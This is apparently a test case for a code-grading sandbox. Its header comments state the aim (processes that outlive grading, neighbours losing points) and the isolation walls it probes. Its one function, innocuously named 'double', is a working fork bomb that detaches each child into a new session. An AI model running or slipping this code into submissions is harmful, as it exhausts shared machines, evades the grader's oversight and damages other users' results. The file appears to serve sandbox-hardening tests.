# DESC: forks as fast as it can, each child again, all in sessions of their own
# SUCCESS: processes that outlive the grading, neighbours that lose points
# DETECT: leftover process, neighbours
# KIND: cell
# SOLVED: others
# WALLS: rlimits cgroup namespaces


def double(x):
    import os

    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
